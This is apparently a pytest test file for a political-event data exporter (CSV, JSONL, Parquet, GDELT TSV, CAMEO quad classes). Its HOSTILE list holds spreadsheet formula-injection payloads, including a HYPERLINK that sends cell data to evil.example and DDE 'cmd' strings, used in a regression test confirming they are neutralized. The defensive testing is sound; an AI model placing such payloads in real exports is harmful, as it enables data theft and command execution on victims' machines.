"""Exports: CSV, JSONL and Parquet read back; GDELT's 61 columns; PLOVER records."""
import csv
import io
import json

import pytest

from conftest import story as S  # a real Story from a few fields

from readout.export import FLAT_COLUMNS, GDELT_COLUMNS, BadExport, export, quad_class
from readout.store import Store




def ev(source, type_, target, cameo, goldstein, evidence):
    return {"source": source, "type": type_, "target": target, "cameo": cameo,
            "goldstein": goldstein, "mode": "phone" if type_ == "CONSULT" else None,
            "evidence": evidence}


HEAD = {"source": "CHN", "type": "CONSULT", "target": "IRN", "mode": "phone"}
STORIES = [
    (S("cn", "Xi had a phone call with Raisi.", "Call", "2021-08-18", "Xinhua", "https://cn/1"),
     {"date": "2021-08-18", "headline": HEAD,
      "events": [ev("CHN", "CONSULT", "IRN", "042", 1.9, "had a phone call\twith Raisi")],
      "stances": [{"holder": "CHN", "polarity": "oppose", "issue": "interference"}]}),
    (S("ir", "Raisi spoke with Xi.", "Call", "2021-08-19", "IRNA", "https://ir/1"),
     {"date": "2021-08-19", "headline": {**HEAD, "source": "IRN", "target": "CHN"},
      "events": [ev("IRN", "CONSULT", "CHN", "042", 1.9, "spoke with Xi"),
                 ev("IRN", "ACCUSE", "USA", None, -2.0, "criticised Washington")],
      "stances": [{"holder": "IRN", "polarity": "support", "issue": "iran_nuclear_deal"}]}),
]


@pytest.fixture
def store(tmp_path):
    s = Store(tmp_path / "x.db")
    s.ingest(STORIES)
    yield s
    s.close()


def test_csv_has_one_row_per_report_with_cluster_id(store, tmp_path):
    path = tmp_path / "e.csv"
    assert export(store, "csv", path) == 3
    rows = list(csv.DictReader(path.open()))
    assert list(rows[0]) == FLAT_COLUMNS
    consult = [r for r in rows if r["type"] == "CONSULT"]
    assert len(consult) == 2 and consult[0]["cluster_id"] == consult[1]["cluster_id"]
    assert {r["story_id"] for r in consult} == {"cn", "ir"}


def test_jsonl_to_a_stream_with_filters(store):
    buf = io.StringIO()
    assert export(store, "jsonl", buf, type="ACCUSE") == 1
    row = json.loads(buf.getvalue())
    assert (row["source"], row["target"], row["goldstein"], row["url"]) == (
        "IRN", "USA", -2.0, "https://ir/1")


def test_parquet_reads_back_with_pyarrow(store, tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    path = tmp_path / "e.parquet"
    assert export(store, "parquet", path) == 3
    table = pq.read_table(path)
    assert table.column_names == FLAT_COLUMNS
    assert table.num_rows == 3
    assert sorted(table.column("type").to_pylist()) == ["ACCUSE", "CONSULT", "CONSULT"]
    assert table.schema.field("goldstein").type == "double"


def test_parquet_needs_a_file(store):
    with pytest.raises(BadExport, match="--output"):
        export(store, "parquet", None)


def test_gdelt_rows_have_61_tab_separated_columns(store, tmp_path):
    path = tmp_path / "e.gdelt.tsv"
    assert export(store, "gdelt", path) == 2  # interactions, not reports
    lines = path.read_text().splitlines()
    assert len(GDELT_COLUMNS) == 61
    rows = [line.split("\t") for line in lines]
    assert all(len(r) == 61 for r in rows)
    call = dict(zip(GDELT_COLUMNS, rows[0]))
    assert (call["SQLDATE"], call["MonthYear"], call["Year"]) == ("20210818", "202108", "2021")
    assert call["FractionDate"] == "2021.6301"
    assert {call["Actor1Code"], call["Actor2Code"]} == {"CHN", "IRN"}
    assert call["Actor1CountryCode"] == call["Actor1Code"]
    assert (call["EventCode"], call["EventBaseCode"], call["EventRootCode"]) == ("042", "042", "04")
    assert (call["QuadClass"], call["GoldsteinScale"], call["IsRootEvent"]) == ("1", "1.9", "1")
    assert (call["NumMentions"], call["NumSources"], call["NumArticles"]) == ("2", "2", "2")
    assert len(call["DATEADDED"]) == 14 and call["SOURCEURL"] == "https://cn/1"
    assert call["AvgTone"] == "" and call["ActionGeo_Lat"] == ""
    accuse = dict(zip(GDELT_COLUMNS, rows[1]))
    # no CAMEO code from the coder: the PLOVER type's root stands in
    assert (accuse["EventCode"], accuse["EventRootCode"], accuse["QuadClass"]) == ("110", "11", "3")
    assert accuse["IsRootEvent"] == "0"


def test_gdelt_reads_with_the_csv_module_as_gdelt_tooling_does(store, tmp_path):
    path = tmp_path / "e.tsv"
    export(store, "gdelt", path)
    rows = list(csv.reader(path.open(), delimiter="\t"))
    assert [len(r) for r in rows] == [61, 61]


@pytest.mark.parametrize("root, quad", [("01", 1), ("05", 1), ("06", 2), ("08", 2), ("09", 3),
                                        ("13", 3), ("14", 4), ("20", 4)])
def test_quad_class(root, quad):
    assert quad_class(root) == quad


def test_unknown_format(store):
    with pytest.raises(BadExport, match="unknown format 'xml'; use one of csv, jsonl"):
        export(store, "xml", io.StringIO())


HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tTAB", "\rCR"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_csv_cells_that_start_a_formula_are_neutralized_with_a_quote(cell, tmp_path):
    # Regression (issue 15): exports wrote formulas a spreadsheet would run.
    with Store(tmp_path / "h.db") as store:
        store.ingest([(S("h1", "text", cell, "2021-08-18", cell, "https://h/1"),
                       {"date": "2021-08-18", "events": [ev("CHN", "ACCUSE", "USA", "111", -2.0,
                                                             cell)], "stances": []})])
        buf = io.StringIO()
        export(store, "csv", buf)
    row = next(csv.DictReader(io.StringIO(buf.getvalue(), newline="")))
    assert (row["evidence"], row["title"], row["publisher"]) == ("'" + cell,) * 3
    assert row["goldstein"] == "-2.0"  # a number is no formula: left as it is


@pytest.mark.parametrize("value, safe", [("China", "China"), ("-", "'-"), ("", ""), (None, None),
                                         (-2.0, -2.0), ("a=b", "a=b")])
def test_csv_safe(value, safe):
    from readout.export import csv_safe

    assert csv_safe(value) == safe
